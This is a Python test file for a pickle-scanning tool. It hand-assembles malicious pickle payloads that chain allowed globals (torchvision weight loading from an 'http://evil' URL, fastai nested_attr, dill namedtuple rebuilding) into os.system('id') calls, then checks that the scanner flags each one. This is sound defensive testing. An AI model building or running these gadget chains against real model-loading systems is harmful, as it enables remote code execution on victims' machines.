"""Whole load-time chains whose every global was allowed one by one.

Each sample is hand-assembled; nothing here is ever loaded.
"""

from __future__ import annotations

from tests.pickle._pickle_corpus import Op, call, critical, p4, s, scan, sg


def test_torchvision_weights_fetch_and_unpickle_any_url() -> None:
    """`ResNet50_Weights.get_state_dict(ns)` is torch.hub.load_state_dict_from_url(ns.url),
    whose torch.load runs with weights_only=False; a SimpleNamespace carries the URL."""
    ns = call(sg("types", "SimpleNamespace"))
    url = b"\x8c\x03url\x8c\x23http://evil/x-0123456789abcdef.pth"
    ns_with_url = ns + b"}(" + url + b"ub"
    method = call(
        sg("builtins", "getattr"),
        sg("torchvision.models.resnet", "ResNet50_Weights"),
        "get_state_dict",
    )
    data = p4(method + b"(" + ns_with_url + b"\x88tR")
    found = critical(scan(data)[0])
    assert any("get_state_dict" in m for m in found), found


def test_fastai_nested_attr_reaches_os_system_from_an_allowed_module() -> None:
    """fastai.torch_core imports os; nested_attr walks "os.system" off the module object."""
    walk = call(sg("fastai.torch_core", "nested_attr"), sg("fastai", "torch_core"), "os.system")
    data = p4(call(walk, "id"))
    found = critical(scan(data)[0])
    assert any("nested_attr" in m for m in found), found


def test_dill_namedtuple_rebuild_resolves_an_importable_name() -> None:
    """dill's `_create_namedtuple(name, fields, modulename)` returns `modulename.name` when
    that imports (it looks for the saved class first): ('system', ..., 'os') is os.system."""
    fields = Op(b"]" + s("a") + b"a")
    resolved = call(sg("dill._dill", "_create_namedtuple"), "system", fields, "os")
    data = p4(call(resolved, "id"))
    found = critical(scan(data)[0])
    assert any("resolves os.system" in m for m in found), found
    assert any("Call to os.system('id')" in m for m in found), found


def test_dill_namedtuple_of_a_trusted_class_stays_quiet() -> None:
    """A namedtuple class a real model's package defines is found again and rebuilt."""
    fields = Op(b"]" + s("data") + b"a")
    cls = call(
        sg("dill._dill", "_create_namedtuple"), "PackedSequence", fields, "torch.nn.utils.rnn"
    )
    data = p4(cls + b"(J\x01\x00\x00\x00t\x81")
    result = scan(data)[0]
    assert not [i for i in result.issues if i.severity.value in ("warning", "critical")], [
        i.message for i in result.issues
    ]
